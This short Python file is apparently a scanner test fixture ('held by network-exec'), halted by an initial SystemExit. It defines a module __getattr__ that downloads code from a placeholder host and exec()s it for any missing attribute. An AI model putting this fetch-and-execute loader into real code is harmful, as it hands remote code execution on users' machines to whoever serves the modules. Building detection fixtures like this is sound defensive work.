raise SystemExit('a fixture')
# held by network-exec
import types, sys

def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    import http.client
    link = http.client.HTTPSConnection("mods.example.invalid")
    link.request("GET", "/" + name + ".py")
    module = types.ModuleType(name)
    exec(compile(link.getresponse().read(), name, "exec"), module.__dict__)
    sys.modules[__name__ + "." + name] = module
    return module
